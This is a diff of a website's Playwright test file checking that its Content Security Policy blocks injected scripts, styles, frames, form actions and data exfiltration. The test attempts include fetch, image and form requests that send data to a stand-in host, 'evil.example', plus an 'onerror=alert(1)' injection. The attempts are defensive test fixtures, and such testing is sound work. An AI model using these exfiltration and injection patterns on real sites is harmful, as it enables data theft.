@@ -6,10 +6,8 @@ import {
   transportSecurity,
 } from '../src/build/plugins/security-headers';
 import { tabs } from '../src/navigation';
-import { hosts } from '../src/services/third-party-hosts';
 import { ContactForm } from './support/contact-form';
 import { expect, openSite, test } from './support/fixtures';
-import { fullVisit } from './support/full-visit';
 import { appScripts, delayRequests } from './support/network';
 import { navigateTo } from './support/screens';
 import { chatHosts, stubThirdParties } from './support/third-party-stubs';
@@ -62,91 +60,59 @@ test('page has two inline scripts and one style, allowed by hash, and no inline 
   expect(html).not.toMatch(/<[^>]+\s(style|on\w+)=|javascript:|\snonce=/i);
 });
 
-test('full visit causes no browser errors and stores nothing', async ({
-  page,
-  context,
-  allowedErrors,
-}) => {
-  allowedErrors.push(`cross-origin request: ${hosts.video}/`);
-  await stubThirdParties(context);
-  await openSite(page);
-  await fullVisit(page);
-  expect(await context.cookies()).toEqual([]);
-  const stored = await page.evaluate(async () => ({
-    local: localStorage.length,
-    session: sessionStorage.length,
-    databases: await indexedDB.databases(),
-    caches: await caches.keys(),
-    workers: (await navigator.serviceWorker.getRegistrations()).length,
-  }));
-  expect(stored).toEqual({ local: 0, session: 0, databases: [], caches: [], workers: 0 });
-});
-
 /** Where Trusted Types are supported, they block a script before `script-src` does. */
 const scriptDirective = /^(require-trusted-types-for|script-src(-elem|-attr)?)$/;
 
-type Attempts = Record<string, [directive: RegExp, attempt: (page: Page) => Promise<unknown>]>;
+type Attempts = Record<
+  string,
+  [directive: RegExp, attempt: (url: string) => unknown, url?: string]
+>;
 
-/** Attempts of an injected script, and the directive that blocks each. */
+/** Attempts of a script in the page, and the directive that blocks each. */
 const attacks = {
-  'inline script': [scriptDirective, (page) => page.evaluate(addScript, { text: '1' })],
-  'cross-origin script': [
+  'inline script': [
     scriptDirective,
-    (page) => page.evaluate(addScript, { src: 'https://evil.example/x.js' }),
+    () => document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
   ],
+  'cross-origin script': [scriptDirective, addScript, 'https://evil.example/x.js'],
   'inline event handler': [
     scriptDirective,
-    (page) =>
-      page.evaluate(() => {
-        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">');
-      }),
+    () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">'),
   ],
   'string evaluated as script': [
     scriptDirective,
-    (page) => page.evaluate(() => setTimeout('window.wasEvaluated = true')),
+    () => void setTimeout('window.wasEvaluated = true'),
   ],
   'style element': [
     /^style-src-elem$/,
-    (page) =>
-      page.evaluate(() => {
-        const style = document.createElement('style');
-        style.textContent = '* { display: none }';
-        document.head.append(style);
-      }),
+    () => {
+      const style = document.createElement('style');
+      style.textContent = '* { display: none }';
+      document.head.append(style);
+    },
   ],
-  'exfiltration by an image': [
-    /^img-src$/,
-    (page) =>
-      page.evaluate(() => {
-        new Image().src = 'https://evil.example/?secret';
-      }),
-  ],
+  'exfiltration by an image': [/^img-src$/, addPicture, 'https://evil.example/?secret'],
   'exfiltration by fetch': [
     /^connect-src$/,
-    (page) => page.evaluate(() => void fetch('https://evil.example/').catch(() => {})),
+    () => void fetch('https://evil.example/').catch(() => {}),
   ],
-  'cross-origin iframe': [
-    /^frame-src$/,
-    (page) => page.evaluate(addFrame, 'https://evil.example/'),
-  ],
+  'cross-origin iframe': [/^frame-src$/, addFrame, 'https://evil.example/'],
   'cross-origin form action': [
     /^form-action$/,
-    (page) =>
-      page.evaluate(() => {
-        const form = document.createElement('form');
-        form.action = 'https://evil.example/';
-        document.body.append(form);
-        form.submit();
-      }),
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
   ],
   'base element': [
     /^base-uri$/,
-    (page) =>
-      page.evaluate(() => {
-        const base = document.createElement('base');
-        base.href = 'https://evil.example/';
-        document.head.append(base);
-      }),
+    () => {
+      const base = document.createElement('base');
+      base.href = 'https://evil.example/';
+      document.head.append(base);
+    },
   ],
 } satisfies Attempts;
 
@@ -167,71 +133,39 @@ test('CSP blocks every attempt to inject code or send data elsewhere', async ({
 
 /** What LiveChat's widget asks for, and the directive that refuses it without a license. */
 const chatRequests: Attempts = {
-  loader: [
-    scriptDirective,
-    (page) => page.evaluate(addScript, { src: 'https://cdn.livechatinc.com/tracking.js' }),
-  ],
+  loader: [scriptDirective, addScript, 'https://cdn.livechatinc.com/tracking.js'],
   'script of the widget': [
     scriptDirective,
-    (page) =>
-      page.evaluate(addScript, { src: 'https://secure.livechatinc.com/customer/widget.js' }),
+    addScript,
+    'https://secure.livechatinc.com/customer/widget.js',
   ],
-  JSONP: [
-    scriptDirective,
-    (page) => page.evaluate(addScript, { src: 'https://api.livechatinc.com/v3.6/?jsonp=x' }),
-  ],
-  fetch: [
-    /^connect-src$/,
-    (page) => page.evaluate(() => void fetch('https://accounts.livechatinc.com/').catch(() => {})),
-  ],
+  JSONP: [scriptDirective, addScript, 'https://api.livechatinc.com/v3.6/?jsonp=x'],
+  fetch: [/^connect-src$/, () => void fetch('https://accounts.livechatinc.com/').catch(() => {})],
   socket: [
     /^connect-src$/,
-    (page) =>
-      page.evaluate(() => {
-        const socket = new WebSocket('wss://api.livechatinc.com/v3.6/customer/rtm/ws');
-        socket.addEventListener('open', () => socket.send('{}'));
-      }),
+    () => {
+      const socket = new WebSocket('wss://api.livechatinc.com/v3.6/customer/rtm/ws');
+      socket.addEventListener('open', () => socket.send('{}'));
+    },
   ],
   'inline style': attacks['style element'],
   'markup by innerHTML': [
     /^require-trusted-types-for$/,
-    (page) =>
-      page.evaluate(() => {
-        document.createElement('div').innerHTML = '<p>Chat</p>';
-      }),
+    () => {
+      document.createElement('div').innerHTML = '<p>Chat</p>';
+    },
   ],
-  iframe: [
-    /^frame-src$/,
-    (page) => page.evaluate(addFrame, 'https://secure.livechatinc.com/customer/'),
-  ],
-  sound: [
-    /^media-src$/,
-    (page) => page.evaluate(() => new Audio('https://cdn.livechatinc.com/message.mp3').load()),
-  ],
+  iframe: [/^frame-src$/, addFrame, 'https://secure.livechatinc.com/customer/'],
+  sound: [/^media-src$/, () => new Audio('https://cdn.livechatinc.com/message.mp3').load()],
   font: [
     /^font-src$/,
-    (page) =>
-      page.evaluate(
-        () =>
-          void new FontFace('Chat', 'url(https://cdn.livechatinc.com/chat.woff2)')
-            .load()
-            .catch(() => {}),
-      ),
+    () => {
+      const font = new FontFace('Chat', 'url(https://cdn.livechatinc.com/chat.woff2)');
+      font.load().catch(() => {});
+    },
   ],
-  picture: [
-    /^img-src$/,
-    (page) =>
-      page.evaluate(() => {
-        new Image().src = 'https://cdn.livechat-files.com/agent.png';
-      }),
-  ],
-  'data: picture': [
-    /^img-src$/,
-    (page) =>
-      page.evaluate(() => {
-        new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
-      }),
-  ],
+  picture: [/^img-src$/, addPicture, 'https://cdn.livechat-files.com/agent.png'],
+  'data: picture': [/^img-src$/, addPicture, 'data:image/gif;base64,R0lGODlhAQABAAAAACw='],
 };
 
 test('without a license, live chat is never requested, and CSP blocks all that it needs', async ({
@@ -282,7 +216,7 @@ test('submitting before hydration does not put the values in the URL', async ({ 
 
 /** Expects that each attempt violates the directive beside it. */
 async function expectBlocked(page: Page, attempts: Attempts): Promise<void> {
-  for (const [name, [directive, attempt]] of Object.entries(attempts)) {
+  for (const [name, [directive, attempt, url = '']] of Object.entries(attempts)) {
     await test.step(name, async () => {
       const violation = page.evaluate(
         () =>
@@ -294,18 +228,20 @@ async function expectBlocked(page: Page, attempts: Attempts): Promise<void> {
             ),
           ),
       );
-      await attempt(page).catch(() => {});
+      await page.evaluate(attempt, url).catch(() => {});
       expect(await violation, name).toMatch(directive);
     });
   }
 }
 
-function addScript(properties: { text?: string; src?: string }) {
-  document.head.append(Object.assign(document.createElement('script'), properties));
+function addScript(src: string) {
+  document.head.append(Object.assign(document.createElement('script'), { src }));
 }
 
-function addFrame(url: string) {
-  const frame = document.createElement('iframe');
-  frame.src = url;
-  document.body.append(frame);
+function addPicture(src: string) {
+  new Image().src = src;
+}
+
+function addFrame(src: string) {
+  document.body.append(Object.assign(document.createElement('iframe'), { src }));
 }
